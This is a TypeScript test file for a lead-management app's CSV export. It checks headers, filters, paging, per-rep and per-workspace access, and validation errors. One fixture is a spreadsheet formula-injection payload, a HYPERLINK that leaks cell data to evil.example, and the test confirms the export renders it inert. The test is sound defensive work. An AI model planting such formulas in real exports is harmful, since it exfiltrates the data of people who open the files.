// The leads CSV through its handlers (API key, and the dashboard's session caller) on the demo
// workspace and a real database: the header, the table's filters, every lead across pages, a
// hostile answer written inert, REPs get their own leads only, the key's workspace only; an
// unknown sort, status or parameter is a 422 at its name (after the caller is known), as GET /leads.
import { describe, expect, it } from "vitest";
import { leadsCsv, LEAD_CSV_COLUMNS } from "../../services/leads/export-leads-csv";
import { BANK_VP, useRoutingKit } from "../../testing/routing-kit";
import { apiRequest, readJson, startApiKit } from "../../testing/api-kit";
import type { TApiErrorBody } from "../../domain/forms/submission-contract";
import { handleCreateLead } from "./handle-leads";
import { handleDashboardLeadsCsv, handleLeadsCsv } from "./handle-leads-csv";

const NOW = new Date("2026-12-01T15:00:00Z");
const lane = process.env.TEST_DATABASE_URL ? "postgres" : "pglite";
const env = useRoutingKit(startApiKit);

const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
const create = async (body: unknown) => ((await (await handleCreateLead(env.testDb.db, apiRequest("POST", "/leads", { key: env.kit.key, body }), NOW, env.kit.deps)).json()) as { lead: { id: string } }).lead.id;
const small = (email: string, extra: Record<string, unknown> = {}) => ({ answers: { company_size: "20-199", industry: "technology", region: "north_america", ...extra }, person: { email, name: "Amy" } });
const csvOf = async (query = "", key = env.kit.key) => {
  const response = await handleLeadsCsv(env.testDb.db, apiRequest("GET", `/leads.csv${query}`, { key }), NOW);
  return { response, text: new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer()) }; // keeps the BOM
};
const lines = (text: string) => text.replace(/^\uFEFF/, "").split("\r\n").filter(Boolean);

describe(`leads CSV (${lane})`, () => {
  it("opens with the table's header and one answer column per key; a hostile answer is inert", async () => {
    const bank = await create({ form: "demo", answers: BANK_VP });
    const hostile = await create(small("amy@shop.com", { note: HOSTILE }));
    const { response, text } = await csvOf();
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="leads-2026-12-01.csv"');
    expect(response.headers.get("access-control-allow-origin")).toBeNull();
    expect(text.startsWith("\uFEFF")).toBe(true);
    const [header, ...rows] = lines(text);
    expect(header!.split(",").slice(0, LEAD_CSV_COLUMNS.length)).toEqual([...LEAD_CSV_COLUMNS]);
    expect(header).toContain("answers.company_size");
    expect(header).toContain("answers.note");
    expect(rows).toHaveLength(2);
    const hostileRow = rows.find((r) => r.includes(hostile))!;
    expect(hostileRow).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
    // No cell anywhere starts with a formula character (quoted or not).
    expect(text).not.toMatch(/(^|,|\r\n)"?[=+@-]/);
    const bankRow = rows.find((r) => r.includes(bank))!;
    expect(bankRow).toMatch(/^2026-12-01T15:00:00\.000Z,Victoria Park,vp@firstbank\.com,,First Bank,Sarah Chen,ASSIGNED,/);
    expect(bankRow).toContain(",Sales-ready,");
  });

  it("keeps the table's filters", async () => {
    const bank = await create({ form: "demo", answers: BANK_VP });
    await create(small("amy@shop.com"));
    const rows = lines((await csvOf("?tier=sales_ready")).text).slice(1);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toContain(bank);
  });

  it("reads every lead page by page, the header once", async () => {
    const ids = [await create(small("a@shop.com")), await create(small("b@shop.com")), await create(small("c@shop.com"))];
    const chunks: string[] = [];
    for await (const chunk of leadsCsv(env.testDb.db, env.kit.workspaceId, {}, null, { pageSize: 1 })) chunks.push(chunk);
    expect(chunks).toHaveLength(4);
    const text = chunks.join("");
    expect(lines(text)).toHaveLength(4);
    for (const id of ids) expect(text).toContain(id);
  });

  it("from the dashboard: a REP gets only the leads they own; signed out is 401", async () => {
    const bank = await create({ form: "demo", answers: BANK_VP });
    const tom = await create(small("a@shop.com"));
    const sarah = await env.testDb.db.repProfile.findUniqueOrThrow({ where: { id: await env.kit.repIdOf("Sarah") }, select: { userId: true } });
    const response = await handleDashboardLeadsCsv(env.testDb.db, { workspaceId: env.kit.workspaceId, viewer: { userId: sarah.userId, role: "REP" } }, new URLSearchParams(), NOW);
    const text = await response.text();
    expect(response.status).toBe(200);
    expect(text).toContain(bank);
    expect(text).not.toContain(tom);
    expect((await handleDashboardLeadsCsv(env.testDb.db, null, new URLSearchParams(), NOW)).status).toBe(401);
  });

  it("the key's workspace only", async () => {
    const id = await create(small("a@shop.com"));
    const { response, text } = await csvOf("", env.kit.otherKey);
    expect(response.status).toBe(200);
    expect(text).not.toContain(id);
    expect(lines(text)).toHaveLength(1);
  });

  it("keeps the table's sort, and an empty value is no value", async () => {
    const bank = await create({ form: "demo", answers: BANK_VP });
    const low = await create(small("amy@shop.com"));
    const order = async (query: string) => lines((await csvOf(query)).text).slice(1).map((row) => (row.includes(bank) ? "bank" : row.includes(low) ? "low" : "?"));
    expect(await order("?sort=score-desc")).toEqual(["bank", "low"]);
    expect(await order("?sort=score-asc&status=&search=")).toEqual(["low", "bank"]);
  });

  it.each<[string, string, string | null]>([
    ["?sort=bogus", "sort", "Use one of: date-desc, date-asc, score-desc, score-asc"],
    ["?sort=score-desc&sort=date-asc", "sort", null],
    ["?status=WON", "status", null],
    ["?spam=yes", "spam", null],
    ["?scoreBand=huge", "scoreBand", null],
    ["?from=yesterday", "from", null],
    // Shaped like a day but not one: was a 500 (an Invalid Date reached the query) or another day.
    ["?to=2026-13-01", "to", "Use a calendar day, YYYY-MM-DD (e.g. 2026-11-30)"],
    ["?from=2026-02-30", "from", "Use a calendar day, YYYY-MM-DD (e.g. 2026-11-30)"],
    ["?foo=1", "foo", "Unknown query parameter `foo`: use search, tier, formId, source, status, spam, sort, page, from, to, repId, teamId, pathId, scoreBand, utmSource, reached, assignedRepId, assignedPathId, assignedTeamId"],
    // A NUL was dropped by the table's input, so the filter vanished and the export held every lead.
    ["?formId=%00", "formId", "must not contain a NUL character (%00)"],
    ["?search=a%00b", "search", "must not contain a NUL character (%00)"],
  ])("%s → 422 at %s", async (query, path, message) => {
    const { status, json } = await readJson<TApiErrorBody>(await handleLeadsCsv(env.testDb.db, apiRequest("GET", `/leads.csv${query}`, { key: env.kit.key }), NOW));
    expect(status).toBe(422);
    expect(json.error.code).toBe("VALIDATION");
    expect(json.error.details.map((d) => d.path)).toEqual([path]);
    if (message) expect(json.error.details[0]!.message).toBe(message);
  });

  it("the caller is checked first (401), and the dashboard's export refuses an unknown sort too", async () => {
    expect((await csvOf("?sort=bogus", "sb_live_not_a_key")).response.status).toBe(401);
    expect((await handleDashboardLeadsCsv(env.testDb.db, null, new URLSearchParams("sort=bogus"), NOW)).status).toBe(401);
    const owner = await env.testDb.db.user.findUniqueOrThrow({ where: { email: "owner@demo.switchboard.dev" } });
    const response = await handleDashboardLeadsCsv(env.testDb.db, { workspaceId: env.kit.workspaceId, viewer: { userId: owner.id, role: "OWNER" } }, new URLSearchParams("sort=bogus"), NOW);
    const { status, json } = await readJson<TApiErrorBody>(response);
    expect(status).toBe(422);
    expect(json.error.details).toEqual([{ path: "sort", message: "Use one of: date-desc, date-asc, score-desc, score-asc" }]);
  });
});
